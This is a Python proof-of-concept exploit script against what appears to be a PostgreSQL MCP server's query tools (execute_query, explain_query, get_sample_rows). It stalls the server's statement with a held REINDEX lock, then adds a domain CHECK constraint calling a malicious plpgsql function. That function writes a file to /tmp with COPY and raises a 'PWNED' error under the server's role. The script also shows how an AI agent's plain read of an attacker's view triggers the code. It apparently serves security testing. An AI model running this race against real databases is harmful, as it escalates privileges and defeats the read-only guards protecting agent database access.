"""Deterministic: a domain constraint added after the guard's check runs as the server's role.
Domain constraints are read when the executor starts, after planning; planning opens the
table's indexes, so an attacker holding its own index (BEGIN; REINDEX INDEX) keeps the server's
statement waiting after the check and the parse, for as long as it likes. Meanwhile a second
attacker session adds CHECK (atk.dom_evil(VALUE)) to the domain the query casts to, and
commits; then the first releases the index.
Usage: race_domain.py [reader|postgres] [execute_query|explain|sample]"""
import asyncio
import json
import os
import sys
import time

import asyncpg
from common import DSN, as_role, tool
from mcpclient import connect

SETUP_ATK = r"""
DROP TABLE IF EXISTS atk.t CASCADE; DROP DOMAIN IF EXISTS atk.dom CASCADE;
DROP FUNCTION IF EXISTS atk.dom_evil(int);
CREATE TABLE atk.t (a int); INSERT INTO atk.t VALUES (1), (2);
CREATE INDEX t_a ON atk.t (a);
GRANT SELECT ON atk.t TO PUBLIC;
-- a harmless built-in check keeps the CoerceToDomain in the plan (a domain without
-- constraints is planned as a plain relabel), so the executor reads the constraints at start
CREATE DOMAIN atk.dom AS int CONSTRAINT harmless CHECK (VALUE > -1000);
CREATE FUNCTION atk.dom_evil(int) RETURNS boolean VOLATILE LANGUAGE plpgsql AS $f$
DECLARE x text := pg_catalog.pg_current_xact_id()::text;
BEGIN
  BEGIN
    EXECUTE pg_catalog.format('COPY (SELECT %L) TO %L', current_user, '/tmp/atk-domain-' || x);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RAISE EXCEPTION 'PWNED as % (read_only=%), consumed xid %', current_user,
    pg_catalog.current_setting('transaction_read_only'), x;
END $f$;
GRANT EXECUTE ON FUNCTION atk.dom_evil(int) TO PUBLIC;
-- what an agent is shown: a view whose column is of the domain (the cast is in the view)
CREATE VIEW atk.v AS SELECT a::atk.dom AS d FROM atk.t;
CREATE VIEW atk.v2 AS SELECT a::atk.dom AS d FROM atk.t;
GRANT SELECT ON atk.v, atk.v2 TO PUBLIC;
"""
CALLS = {
    "execute_query": ("execute_query", {"sql": "SELECT a AS d FROM atk.t WHERE a::atk.dom > 0"}),
    # an agent's plain read of the attacker's view (v2 for the raced call: a statement not prepared yet)
    "view": ("execute_query", {"sql": "SELECT * FROM atk.v"}),
    "resource": ("execute_query", {"sql": "SELECT * FROM atk.v"}),  # baseline only
    "explain": ("explain_query", {"sql": "SELECT a::atk.dom AS d FROM atk.t", "analyze": True}),
    "sample": ("get_sample_rows", {"table_name": "t", "schema_name": "atk", "where_clause": "a::atk.dom > 0"}),
}

async def main(role: str, which: str) -> None:
    a = await asyncpg.connect(as_role("attacker")); await a.execute(SETUP_ATK)
    b = await asyncpg.connect(as_role("attacker"))
    admin = await asyncpg.connect(DSN)
    server_role = "postgres" if role == "postgres" else role
    async with connect(DSN if role == "postgres" else as_role(role)) as c:
        ok, body = await tool(c, CALLS[which][0], **CALLS[which][1])
        print("baseline:", ok, json.dumps(body)[:200])
        before = await admin.fetchval("SELECT pg_current_xact_id()::text")
        await a.execute("BEGIN; REINDEX INDEX atk.t_a")
        # new text: a statement the server has not prepared yet, so that it is planned now
        fresh = {k: (v.replace("AS d", "AS d_fresh").replace("> 0", "> -1").replace("atk.v", "atk.v2") if isinstance(v, str) else v) for k, v in CALLS[which][1].items()}
        if which == "resource":  # the table sample resource of the attacker's view
            async def read() -> tuple[bool, dict]:
                try:
                    r = await c.read_resource("pg://schemas/atk/tables/v2/sample")
                    return True, {"text": r.contents[0].text[:300]}
                except Exception as exc:
                    return False, {"error": str(exc)}
            call = asyncio.create_task(read())
        else:
            call = asyncio.create_task(tool(c, CALLS[which][0], **fresh))
        t0 = time.monotonic(); waiting = None
        while time.monotonic() - t0 < 10:
            waiting = await admin.fetchrow(
                "SELECT pid, wait_event_type, wait_event, left(query, 120) AS q FROM pg_stat_activity "
                "WHERE usename = $1 AND wait_event_type = 'Lock' AND datname = current_database()", server_role)
            if waiting: break
            await asyncio.sleep(0.01)
        print("server backend waiting:", dict(waiting) if waiting else None)
        locks = await admin.fetch("SELECT l.relation::regclass::text AS rel, l.mode, l.granted FROM pg_locks l "
                                  "WHERE l.pid = $1 AND l.locktype = 'relation' AND NOT l.granted", waiting["pid"]) if waiting else []
        print("  waiting for:", [dict(r) for r in locks])
        await b.execute("ALTER DOMAIN atk.dom ADD CONSTRAINT planted CHECK (atk.dom_evil(VALUE))")
        print("domain constraint added and committed by a second attacker session")
        await a.execute("COMMIT")
        ok, body = await call
        print("call:", ok, json.dumps(body.get("error", body))[:300])
        after = await admin.fetchval("SELECT pg_current_xact_id()::text")
        print("next xid before/after (admin session, 1 each):", before, after)
    await b.execute("ALTER DOMAIN atk.dom DROP CONSTRAINT IF EXISTS planted")
    for x in (a, b, admin): await x.close()
    print("files:", sorted(f for f in os.listdir("/tmp") if f.startswith("atk-domain")))

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader", sys.argv[2] if len(sys.argv) > 2 else "execute_query"))
